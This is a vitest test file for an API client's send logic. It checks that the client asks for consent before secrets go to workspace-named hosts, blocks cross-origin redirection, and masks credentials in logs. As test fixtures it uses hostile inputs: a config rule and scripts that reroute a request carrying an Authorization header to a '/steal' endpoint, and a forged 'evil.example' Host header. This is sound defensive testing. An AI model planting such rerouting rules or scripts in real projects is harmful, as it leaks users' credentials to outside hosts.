/** When the user is asked before something secret goes somewhere. */
import { createCookieJar } from '@endpoint-atlas/engine/node';
import { emptyAuth, type RequestValues, userRow } from '@endpoint-atlas/engine/requests';
import { describe, expect, it } from 'vitest';
import { endpoint, type Given, orders, serve, start, valuesFor } from './sender.fixture.ts';

describe('a host that the workspace names', () => {
  it('asks once before a secret goes to a new host that the workspace names', async () => {
    const sent: string[] = [];
    const host = await serve((request, response) => {
      sent.push(request.url ?? '');
      response.end();
    });
    const refused = start({ consent: false, hasSecrets: true });
    await refused.sender.send(endpoint, valuesFor(endpoint, host));
    expect(refused.sender.exchangeOf(endpoint)).toEqual({ kind: 'cancelled' });
    const edits = `${host}: the parameter token`;
    expect([refused.asked, refused.remembered, sent]).toEqual([[edits], [], []]);

    const allowed = start({ consent: true, hasSecrets: true });
    await allowed.sender.send(endpoint, valuesFor(endpoint, host));
    await allowed.sender.send(endpoint, valuesFor(endpoint, host));
    expect([allowed.asked, sent.length]).toEqual([[edits], 2]);

    const harmless = start({ consent: false });
    await harmless.sender.send(endpoint, valuesFor(endpoint, host));
    expect([harmless.asked, sent.length]).toEqual([[], 3]);

    const scripted = start({ consent: false, scripts: { folder: { before: 'x', after: '' } } });
    await scripted.sender.send(endpoint, valuesFor(endpoint, host));
    expect([scripted.asked, sent.length]).toEqual([[`${host}: what your scripts put into it`], 3]);
  });
});

describe('what the question before a host of the workspace names', () => {
  const form = (type: 'file' | 'text', value: string): Partial<RequestValues> => ({
    ...{ contentType: 'multipart/form-data', form: [{ ...userRow('f', value), type }] },
  });
  const own = { token: 'canary-1', outer: 'a {{token}}' };
  const post = { ...endpoint, method: 'POST' };

  it.each<[string, Partial<RequestValues>, Omit<Given, 'jar'> & { readonly jar?: string }, string]>([
    ['a variable', { headers: [userRow('X', '{{token}}')] }, { own }, '{{token}}'],
    ['variables of variables', { params: [userRow('a', '{{outer}}')] }, { own }, '{{outer}}, {{token}}'],
    ['a variable in a body', { contentType: 'a/b', body: '{{token}}' }, { own }, '{{token}}'],
    ['a variable in a form', form('text', '{{token}}'), { own }, '{{token}}'],
    ['a file', form('file', 'a.txt'), {}, 'the file a.txt'],
    ['cookies by the path', {}, { jar: 'sid=1; Path=/base/orders' }, 'the cookies sid'],
    ['credentials', {}, { auth: { kind: 'bearer', token: '1' } }, 'the credentials of Auth'],
    ['a header', { headers: [userRow('X-Token', 'a')] }, { hasSecrets: true }, 'X-Token'],
  ])('%s', async (_what, values, given, words) => {
    const host = 'http://api.example/base';
    const jar = createCookieJar();
    if (given.jar !== undefined) jar.store('http://api.example/base/orders', [given.jar]);
    const { sender, asked } = start({ ...given, consent: false, jar });
    await sender.send(post, { ...valuesFor(post, host), params: [], ...values });
    expect(asked).toEqual([`http://api.example:80: ${words}`]);
    expect(sender.exchangeOf(post)).toEqual({ kind: 'cancelled' });
  });

  it.each<[string, Partial<RequestValues>]>([
    ['a variable of the workspace', { params: [userRow('a', '{{public}}')] }],
    ['made-up values', { params: [userRow('a', '{{$uuid}}')] }],
  ])('%s is none of them', async (_what, values) => {
    const host = await serve((_, response) => response.end());
    const { sender, asked } = start({ consent: false });
    await sender.send(post, { ...valuesFor(post, host), params: [], ...values });
    expect(asked).toEqual([]);
  });
});

describe('a request that is moved to another origin', () => {
  const secret = { headers: [userRow('Authorization', 'Bearer canary')] };

  async function twoServers() {
    const arrived: string[] = [];
    const chosen = await serve((_request, response) => response.end('ok'));
    const other = await serve((request, response) => {
      arrived.push(`${request.url} ${request.headers.authorization}`);
      response.end('stolen');
    });
    return { arrived, chosen, other };
  }

  it.each(['rule', 'script', 'script that sets a variable'])('by a %s waits for the user', async (mover) => {
    const { arrived, chosen, other } = await twoServers();
    const byRule = `# moves\n\nhttp.call.before=groovy:request.setUrl("${other}/steal")`;
    const script =
      mover === 'script' ? `pm.request.url = '${other}/steal'` : `pm.environment.set('base', '${other}')`;
    const given: Given =
      mover === 'rule'
        ? { project: { ...orders, '/p/.easy.api.config': byRule } }
        : { project: orders, scripts: { endpoint: { before: script, after: '' } } };
    const host = mover === 'script that sets a variable' ? '{{base}}' : chosen;
    for (const agreesToMove of [false, true]) {
      const { sender, found, moves } = start({ ...given, agreesToMove });
      if (found === undefined) throw new Error('There is no endpoint.');
      await sender.send(found, { ...valuesFor(found, host), ...secret });
      expect(moves).toHaveLength(1);
      expect(moves[0]).toContain(
        mover === 'rule' ? 'The rule http.call.before in .easy.api.config:3' : 'script',
      );
      expect(moves[0]).toContain(`to ${other}. Authorization`);
      expect(moves[0]).not.toContain('canary');
      expect(arrived).toHaveLength(agreesToMove ? 1 : 0);
      expect(sender.exchangeOf(found)).toMatchObject(
        agreesToMove ? { kind: 'response' } : { kind: 'failed', title: 'Not allowed' },
      );
    }
  });

  it('by a variable of a rule file waits for the user', async () => {
    const { arrived, other } = await twoServers();
    const project = {
      '/p/.easy.api.config': `base=${other}\n`,
      '/p/A.java': '@RestController class A { @GetMapping("/a") void a() {} }',
    };
    const { sender, found, moves } = start({ project });
    if (found === undefined) throw new Error('There is no endpoint.');
    await sender.send(found, { ...valuesFor(found, '{{base}}'), ...secret });
    expect(moves).toEqual([expect.stringContaining('A variable that files of this project define')]);
    expect(arrived).toEqual([]);
  });
});

it('S2: a Host header that the source asks for waits for the user', async () => {
  const hosts: unknown[] = [];
  const host = await serve((request, response) => {
    hosts.push(request.headers.host);
    response.end();
  });
  const values = valuesFor(endpoint, host);
  const named = { ...userRow('Host', 'evil.example'), origin: 'source' } as const;
  for (const agreesToMove of [false, true]) {
    const { sender, moves } = start({ agreesToMove });
    await sender.send(endpoint, { ...values, headers: [...values.headers, named] });
    expect(moves).toEqual([expect.stringContaining('to http://evil.example:80')]);
    expect(hosts).toEqual(agreesToMove ? ['evil.example'] : []);
  }
});

describe('credentials of a call', () => {
  it('go into the request, and are hidden in what is shown and recorded', async () => {
    const credentials = { kind: 'apiKey', in: 'query', name: 'key', value: 'canary key' } as const;
    const { sender, recorded } = start({
      auth: credentials,
      credentials: { kind: 'credentials', credentials },
    });
    const seen: unknown[] = [];
    const host = await serve(({ url }, response) => {
      seen.push(url);
      response.end('ok');
    });
    await sender.send(endpoint, valuesFor(endpoint, host));
    expect(seen).toEqual(['/orders?token=canary-77&key=canary%20key']);
    expect(sender.exchangeOf(endpoint)).toMatchObject({
      response: { summary: `GET ${host}/orders?token=canary-77&key=•••` },
    });
    expect(JSON.stringify(recorded)).not.toMatch(/canary(?:%20| )key/);
  });

  it('are none where the user could not be signed in, and nothing is sent', async () => {
    const { sender } = start({
      auth: emptyAuth('oauth2'),
      credentials: { kind: 'failed', message: 'The server refused the sign-in.' },
    });
    await sender.send(endpoint, valuesFor(endpoint, 'http://127.0.0.1:1'));
    expect(sender.exchangeOf(endpoint)).toEqual({
      kind: 'failed',
      title: 'Not signed in',
      message: 'The server refused the sign-in.',
    });
  });

  it('are asked about before they go to a host that only the workspace names', async () => {
    const { sender, asked } = start({ consent: false, auth: { kind: 'bearer', token: 'canary' } });
    await sender.send(endpoint, valuesFor(endpoint, 'http://api.example'));
    expect(asked).toEqual(['http://api.example:80: the credentials of Auth']);
    expect(sender.exchangeOf(endpoint)).toEqual({ kind: 'cancelled' });
  });
});
